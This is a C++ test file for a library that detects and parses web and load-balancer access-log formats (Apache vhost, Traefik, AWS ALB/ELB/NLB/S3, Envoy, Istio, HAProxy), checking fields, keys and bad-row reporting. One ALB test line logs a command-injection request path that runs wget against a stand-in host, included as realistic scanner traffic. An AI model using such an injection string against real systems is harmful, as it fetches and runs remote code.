// SPDX-License-Identifier: Apache-2.0
#include "trace/line_formats.hpp"

#include <doctest/doctest.h>

#include <random>
#include <set>
#include <string>
#include <vector>

#include "block_rows.hpp"
#include "trace/formats.hpp"

using namespace ratereplay;

namespace {

/// One line of every format, made by its documentation.
struct Example {
  std::string format;
  std::string line;
  std::string at;   // as detected
  std::string key;  // as detected
};

const std::vector<Example>& examples() {
  static const std::vector<Example> list = {
      {"vhost",
       "www.example.com:443 192.0.2.7 - jane [02/Jan/2026:03:04:05 +0100] \"GET /a HTTP/1.1\" 200 "
       "512 \"-\" \"curl/8\"",
       "2026-01-02 02:04:05", "192.0.2.7"},
      {"traefik",
       "192.0.2.7 - - [02/Jan/2026:03:04:05 +0000] \"GET /a HTTP/2.0\" 200 512 \"-\" \"curl/8\" 42 "
       "\"shop@docker\" \"http://10.0.0.3:80\" 12ms",
       "2026-01-02 03:04:05", "192.0.2.7"},
      {"alb",
       "https 2026-01-02T03:04:05.678901Z app/lb/50dc6c495c0c9188 192.0.2.7:2817 10.0.0.1:80 0.086 "
       "0.048 0.037 200 200 0 57 \"GET https://www.example.com:443/a HTTP/1.1\" \"curl/8\" "
       "ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:tg \"Root=1-58337281\" \"www.example.com\" "
       "\"-\" 1 2026-01-02T03:04:05.507000Z \"forward\" \"-\" \"-\" \"10.0.0.1:80\" \"200\" \"-\" "
       "\"-\" TID_1234",
       "2026-01-02 03:04:05.507", "192.0.2.7"},
      {"elb",
       "2026-01-02T03:04:05.678901Z my-lb 192.0.2.7:2817 10.0.0.1:80 0.000073 0.001048 0.000057 "
       "200 200 0 29 \"GET http://www.example.com:80/ HTTP/1.1\" \"curl/8\" - -",
       "2026-01-02 03:04:05.678901", "192.0.2.7"},
      {"nlb",
       "tls 2.0 2026-01-02T03:04:05 net/lb/c6e77e28c25b2234 g3d4b5e8bb8464cd 192.0.2.7:51341 "
       "10.0.0.1:443 5 2 98 246 - arn:aws:acm:cert - ECDHE-RSA-AES128-SHA tlsv12 - "
       "www.example.com h2 h2 \"h2\",\"http/1.1\" 2026-01-02T03:04:00",
       "2026-01-02 03:04:00", "192.0.2.7"},
      {"s3",
       "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be bucket "
       "[02/Jan/2026:03:04:05 +0000] 192.0.2.7 arn:aws:iam::1:user/a 3E57427F3EXAMPLE "
       "REST.GET.OBJECT a/b.png \"GET /bucket/a/b.png HTTP/1.1\" 200 - 113 512 7 6 \"-\" "
       "\"curl/8\" "
       "-",
       "2026-01-02 03:04:05", "192.0.2.7"},
      {"envoy",
       "[2026-01-02T03:04:05.678Z] \"POST /api HTTP/2\" 204 - 154 0 226 100 \"192.0.2.7\" "
       "\"curl/8\" "
       "\"cc21d9b0-cf5c\" \"shop\" \"tcp://10.0.2.1:80\"",
       "2026-01-02 03:04:05.678", "192.0.2.7"},
      {"istio",
       "[2026-01-02T03:04:05.678Z] \"GET /a HTTP/1.1\" 200 - via_upstream - \"-\" 0 135 4 4 \"-\" "
       "\"curl/8\" \"84961386\" \"shop:8000\" \"127.0.0.1:80\" inbound|8000|| 127.0.0.1:41854 "
       "10.44.1.27:80 192.0.2.7:41854 outbound_.8000_._.shop default",
       "2026-01-02 03:04:05.678", "192.0.2.7"},
      {"haproxy",
       "Jan  2 03:04:06 lb haproxy[14389]: 192.0.2.7:33317 [02/Jan/2026:03:04:05.655] http-in "
       "static/srv1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 {1wt.eu} {} \"GET /index.html "
       "HTTP/1.1\"",
       "2026-01-02 03:04:05.655", "192.0.2.7"},
  };
  return list;
}

ReadFlags flags_with(std::vector<std::string> keys, std::string cost = {}) {
  ReadFlags flags;
  flags.keys = std::move(keys);
  if (!cost.empty()) flags.cost_field = std::move(cost);
  return flags;
}

std::string key_of(const std::string& line, const std::string& field, const char* format = "auto") {
  ReadFlags flags = flags_with({field});
  flags.format = format;
  const ReadText read = read_text(line, flags);
  return read.requests.size() == 1 ? read.requests[0].key : "(no row)";
}

const std::string& example(const std::string& format) {
  for (const Example& one : examples()) {
    if (one.format == format) return one.line;
  }
  FAIL("no example of ", format);
  return examples()[0].line;
}

/// The line of HAProxy is in the envelope of syslog.
std::string detected(const std::string& format) {
  return format == "haproxy" ? "syslog+haproxy" : format;
}

}  // namespace

TEST_CASE("lines: every format is detected by its content, with time and client") {
  for (const Example& one : examples()) {
    CAPTURE(one.line);
    for (const char* end : {"", "\n", "\r\n"}) {
      const ReadText read = read_text(one.line + end);
      CHECK(read.plan.format->name() == detected(one.format));
      REQUIRE(read.requests.size() == 1);
      CHECK(read.requests[0].at == one.at);
      CHECK(read.requests[0].key == one.key);
      CHECK(read.bad.empty());
    }
  }
}

TEST_CASE("lines: what a plan of theirs says pins the same plan") {
  for (const Example& one : examples()) {
    CAPTURE(one.format);
    const PaddedText padded(one.line);
    const ReadPlan plan = make_plan({padded.text(), true}, "sample", {});
    CHECK(pin_flags(plan).starts_with("-F " + detected(one.format) + " --time-field "));
  }
}

TEST_CASE("lines: fields have the names of the documentation, and the request its parts") {
  struct Row {
    const char* format;
    const char* field;
    const char* value;
  };
  const std::vector<Row> rows = {
      {"vhost", "vhost", "www.example.com"},
      {"vhost", "host", "www.example.com"},
      {"vhost", "user", "jane"},
      {"vhost", "path", "/a"},
      {"vhost", "user_agent", "curl/8"},
      {"traefik", "router", "shop@docker"},
      {"traefik", "duration_ms", "12"},
      {"traefik", "protocol", "HTTP/2.0"},
      {"alb", "client:port", "192.0.2.7"},
      {"alb", "path", "/a"},
      {"alb", "raw:path", "https://www.example.com:443/a"},
      {"alb", "status", "200"},
      {"alb", "host", "www.example.com"},
      {"alb", "conn_trace_id", "TID_1234"},
      {"alb", "transformed_host", "-"},
      {"elb", "backend:port", "10.0.0.1:80"},
      {"nlb", "domain_name", "www.example.com"},
      {"s3", "bucket", "bucket"},
      {"s3", "key", "a/b.png"},
      {"s3", "operation", "REST.GET.OBJECT"},
      {"s3", "method", "GET"},
      {"envoy", "authority", "shop"},
      {"envoy", "upstream_host", "tcp://10.0.2.1:80"},
      {"envoy", "method", "POST"},
      {"istio", "route_name", "default"},
      {"istio", "downstream_remote_address", "192.0.2.7:41854"},
      {"haproxy", "backend", "static"},
      {"haproxy", "server", "srv1"},
      {"haproxy", "Ta", "109"},
      {"haproxy", "backend_queue", "0"},
      {"haproxy", "captures", "{1wt.eu} {} "},
      {"haproxy", "path", "/index.html"},
      {"haproxy", "syslog", "Jan  2 03:04:06 lb haproxy[14389]: "},
  };
  for (const Row& row : rows) {
    CAPTURE(row.format);
    CAPTURE(row.field);
    CHECK(key_of(example(row.format), row.field, row.format) == row.value);
  }
}

TEST_CASE("lines: combined and common stay what they are") {
  const std::string head = "[02/Jan/2026:03:04:05 +0000] \"GET / HTTP/1.1\" 200 1";
  struct Row {
    std::string line;
    const char* format;
    const char* key;
  };
  const std::vector<Row> rows = {
      {"192.0.2.1 - - " + head, "common", "192.0.2.1"},
      {"192.0.2.1 - - " + head + " \"-\" \"x\"", "combined", "192.0.2.1"},
      {"192.0.2.1 - Jane Doe " + head + " \"-\" \"x\"", "combined", "192.0.2.1"},
      {"2001:db8::1 - Jane Doe " + head + " \"-\" \"x\"", "combined", "2001:db8::1"},
      // the client that a proxy named, where the identity belongs
      {"10.0.0.1 192.0.2.1 - " + head + " \"-\" \"x\"", "combined", "10.0.0.1"},
      // further fields that are not those of Traefik
      {"192.0.2.1 - - " + head + " \"-\" \"x\" \"-\" 0.005", "combined", "192.0.2.1"},
      {"192.0.2.1 - - " + head + " \"-\" \"x\" 12 \"-\" \"-\"", "combined", "192.0.2.1"},
      // with a virtual host: a name, with a port, with referer or without, an address of IPv6
      {"example.com 192.0.2.1 - - " + head, "vhost", "192.0.2.1"},
      {"example.com:80 192.0.2.1 - - " + head + " \"-\" \"x\" 7", "vhost", "192.0.2.1"},
      {"example.com:80 client.example.net - - " + head, "vhost", "client.example.net"},
      {"10.0.0.1:80 2001:db8::1 - Jane Doe " + head, "vhost", "2001:db8::1"},
  };
  for (const Row& row : rows) {
    CAPTURE(row.line);
    const ReadText read = read_text(row.line);
    CHECK(read.plan.format->name() == row.format);
    REQUIRE(read.requests.size() == 1);
    CHECK(read.requests[0].key == row.key);
  }
}

TEST_CASE("alb: older lines end sooner, and no target is no reason to refuse one") {
  // 17 fields as of 2016, a target and times that are missing, blanks in the URL
  const std::string old =
      "http 2026-01-02T03:04:05.678901Z app/lb/1 192.0.2.7:1 - -1 -1 -1 404 - 204 167 \"GET "
      "http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/j HTTP/1.1\" \"-\" - - -";
  const ReadText read =
      read_text(old + "\n" + example("alb"), flags_with({"raw:path"}, "sent_bytes"));
  CHECK(read.plan.format->name() == "alb");
  CHECK(read.bad.empty());
  REQUIRE(read.requests.size() == 2);
  CHECK(read.requests[0].key == "http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/j");
  CHECK(read.requests[0].cost == 167);
  // the creation is the arrival only where every row has it
  CHECK(read.plan.time_field == "time");
}

TEST_CASE("alb, elb, nlb: the port of an IPv6 client is no part of its address") {
  struct Client {
    std::string written;
    std::string key;
  };
  const std::vector<Client> clients = {
      {"2a02:a33c:4538:1:bcf4:5264:e01c:f215:50718", "2a02:a33c:4538:1:bcf4:5264:e01c:f215"},
      {"2001:db8::1:2817", "2001:db8::1"},
      {"[2001:db8::1]:2817", "2001:db8::1"},
      {"192.0.2.9:1", "192.0.2.9"},
  };
  for (const Example& example : examples()) {
    if (example.format != "alb" && example.format != "elb" && example.format != "nlb") continue;
    for (const Client& client : clients) {
      CAPTURE(client.written);
      std::string line = example.line;
      const std::size_t at = line.find("192.0.2.7:");
      line.replace(at, line.find(' ', at) - at, client.written);
      const std::size_t target = line.find("10.0.0.1:");
      line.replace(target, line.find(' ', target) - target, "[2001:db8::2]:80");
      const ReadText read = read_text(line + "\n");
      CHECK(read.plan.format->name() == example.format);
      CHECK(read.bad.empty());
      REQUIRE(read.requests.size() == 1);
      CHECK(read.requests[0].key == client.key);
    }
  }
}

TEST_CASE("envoy: of a list of addresses the first one is the key") {
  std::string line = example("envoy");
  line.replace(line.find("192.0.2.7"), 9, "203.0.113.7,10.0.35.28");
  for (const std::string& text : {line, example("envoy") + "\n" + line}) {
    const ReadText read = read_text(text);
    REQUIRE(read.plan.key.size() == 1);
    CHECK(read.plan.key[0].shown == "ip:x_forwarded_for[0]");
    CHECK(read.requests.back().key == "203.0.113.7");
    CHECK(read.plan.warnings.empty());
  }
}

TEST_CASE("lines: a byte order mark or NUL bytes in front of a line are no part of a key") {
  const std::string json = R"({"ts":"2026-01-02T03:04:05Z","ip":"192.0.2.7"})";
  const std::string w3c = "#Fields: date time c-ip\n2026-01-02 03:04:05 192.0.2.7";
  const std::string logfmt = "ts=2026-01-02T03:04:05Z ip=192.0.2.7 level=info";
  for (const std::string& lines : {example("vhost"), example("haproxy"), json, w3c, logfmt,
                                   std::string("192.0.2.7 - - [02/Jan/2026:03:04:05 +0000] \"GET "
                                               "/ HTTP/1.1\" 200 1 \"-\" \"x\"")}) {
    CAPTURE(lines);
    for (const std::string& lead : {std::string("\xEF\xBB\xBF"), std::string(5'000, '\0'),
                                    std::string("\0\0\xEF\xBB\xBF", 5)}) {
      const ReadText read =
          read_text(lead + lines + "\n" + lead + lines + "\n" + lines + "\n" + lead + "\n");
      CHECK(read.bad.empty());
      REQUIRE(read.requests.size() == 3);
      for (const ReadRow& row : read.requests) CHECK(row.key == "192.0.2.7");
    }
  }
}

TEST_CASE("haproxy: with and without a prefix, IPv6 clients, no server, a cut request") {
  const std::string tail =
      " [02/Jan/2026:03:04:05.655] http-in~ http-in/<NOSRV> -1/-1/-1/-1/+0 400 187 - - PR-- "
      "1/1/0/0/+3 0/0 \"<BADREQ>\"";
  struct Row {
    std::string head;
    const char* key;
  };
  const std::vector<Row> rows = {
      {"192.0.2.7:33317", "192.0.2.7"},
      {"haproxy[1]: 192.0.2.7:33317", "192.0.2.7"},
      {"<134>1 2026-01-02T03:04:05Z lb haproxy 1 - - 192.0.2.7:33317", "192.0.2.7"},
      {"2026-01-02T03:04:05+00:00 lb haproxy[1]: 2001:db8::7:33317", "2001:db8::7"},
  };
  for (const Row& row : rows) {
    CAPTURE(row.head);
    ReadFlags flags;
    flags.format = "haproxy";
    const ReadText read = read_text(row.head + tail, flags);
    REQUIRE(read.requests.size() == 1);
    CHECK(read.requests[0].key == row.key);
  }
  const std::string cut = example("haproxy").substr(0, example("haproxy").size() - 8);
  CHECK(key_of(cut, "request") == "GET /index.html H");
  // the log of TCP has other fields
  const ReadText tcp = read_text(example("haproxy") +
                                 "\n192.0.2.7:3 [02/Jan/2026:03:04:05.655] fnt bck/srv1 0/0/5007 "
                                 "212 -- 0/0/0/0/3 0/0\n");
  CHECK(tcp.requests.size() == 1);
  REQUIRE(tcp.bad.size() == 1);
  CHECK(tcp.bad[0].kind == BadKind::kSyntax);
}

TEST_CASE("lines: a dash costs nothing where a number of bytes belongs") {
  for (const char* format : {"s3", "elb"}) {
    const bool s3 = std::string(format) == "s3";
    const ReadText read =
        read_text(example(format), flags_with({}, s3 ? "error_code" : "ssl_cipher"));
    REQUIRE(read.requests.size() == 1);
    CHECK(read.requests[0].cost == 0);
  }
}

TEST_CASE("lines: what does not fit is one bad row with its place") {
  struct Row {
    const char* format;
    std::string line;
    BadKind kind;
    std::uint64_t column;
    const char* reason;
  };
  const std::vector<Row> rows = {
      {"alb", "{\"a\":1}", BadKind::kColumns, 8,
       "the line ends after the field type, and time is missing"},
      {"alb", "http 2026-01-02T03:04:05Z app/lb/1 192.0.2.7:1 - -1 -1 -1 404 - 204 167",
       BadKind::kColumns, 72, "the line ends after the field sent_bytes, and request is missing"},
      {"elb", "2026-01-02T03:04:05Z \"lb", BadKind::kQuote, 22,
       "the quote of the field elb is not closed"},
      {"envoy", "2026-01-02T03:04:05Z x", BadKind::kSyntax, 1, "no '[' where the line starts"},
      {"envoy", "[2026-01-02T03:04:05Z] \"GET / HTTP/2\"", BadKind::kColumns, 38,
       "the line ends after the field request, and response_code is missing"},
      {"envoy", "[2026-01-02T03:04:05Z] \"GET / HTTP/2", BadKind::kQuote, 24,
       "the quote of the field request is not closed"},
      {"envoy", "[2026-01-02 03:04:05Z] \"GET / HTTP/2\" 200 - 1 1 1 1 \"-\"", BadKind::kSyntax, 12,
       "no '] \"' after the field start_time"},
      {"haproxy", "Proxy http-in started.", BadKind::kSyntax, 1, "no [time] after the client"},
      {"vhost", "example.com 192.0.2.1 - - x", BadKind::kSyntax, 25,
       "no ' [' after the field user"},
      {"s3", "79a5 bucket [02/Jan/2026:03:04:05 +0000] 192.0.2.7 - 3E - -", BadKind::kColumns, 60,
       "the line ends after the field key, and request is missing"},
      {"alb",
       "http 2026-02-31T03:04:05Z lb 192.0.2.7:1 - -1 -1 -1 404 - 204 167 \"GET / HTTP/1.1\"",
       BadKind::kTimestamp, 6, "day 31 does not exist in February"},
  };
  for (const Row& row : rows) {
    CAPTURE(row.line);
    ReadFlags flags = flags_with({});
    const std::string& good = example(row.format);
    if (std::string(row.format) == "alb") flags.time_field = "time";
    if (std::string(row.format) == "haproxy") flags.format = "haproxy";
    const ReadText read = read_text(good + "\n" + row.line + "\n\n# x\n" + good + "\n", flags);
    CHECK(read.rows == 3);
    CHECK(read.lines == 5);
    CHECK(read.requests.size() == 2);
    REQUIRE(read.bad.size() == 1);
    CHECK(read.bad[0].kind == row.kind);
    CHECK(read.bad[0].line == 2);
    CHECK(read.bad[0].column == row.column);
    CHECK(read.bad[0].reason == row.reason);
  }
}

TEST_CASE("lines: published logs of AWS give the rows that they have") {
  struct Row {
    const char* name;
    const char* format;
    const char* time;
    std::size_t requests;
    std::size_t keys;
    const char* cost;
  };
  const std::vector<Row> rows = {
      {"aws_alb.log", "alb", "time", 14, 14, "sent_bytes"},
      {"aws_s3_access.log", "s3", "time", 1, 1, "bytes_sent"},
  };
  for (const Row& row : rows) {
    const auto text = shared_trace(row.name);
    if (!text) {
      MESSAGE("skipped: no ", row.name);
      continue;
    }
    CAPTURE(row.name);
    const ReadText read = read_text(*text, flags_with({}, row.cost));
    CHECK(read.plan.format->name() == row.format);
    CHECK(read.plan.time_field == row.time);
    CHECK(read.requests.size() == row.requests);
    CHECK(read.bad.empty());
    std::set<std::string> keys;
    for (const ReadRow& request : read.requests) {
      keys.insert(request.key);
      CHECK(request.key.find(':') == std::string::npos);
    }
    CHECK(keys.size() == row.keys);
  }
}

TEST_CASE("lines: damaged lines never harm, and every line is one row") {
  std::mt19937_64 random(29);
  const std::string letters = "\"\\[] -/:,.|{}#\r\t0m";
  for (const Example& one : examples()) {
    const ReadPlan plan = read_text(one.line).plan;
    ReadFlags flags = flags_with({"ip"});
    flags.format = one.format;
    flags.time_field = plan.time_field;
    flags.time_format = plan.time_format.name();
    for (int round = 0; round < 400; ++round) {
      const std::string line = one.line + "\n";
      std::string text = line + line + line;
      for (std::size_t change = random() % 12; change > 0; --change) {
        char& place = text[line.size() + random() % (2 * line.size() - 1)];
        if (place == '\n') continue;
        place = random() % 4 == 0 ? static_cast<char>(random() % 245 + 11)
                                  : letters[random() % letters.size()];
      }
      CAPTURE(text);
      const ReadText read = read_text(text, flags);
      CHECK(read.rows <= 3);
      CHECK(read.lines == 3);
      CHECK(read.requests.size() + read.bad.size() == read.rows);
    }
  }
}
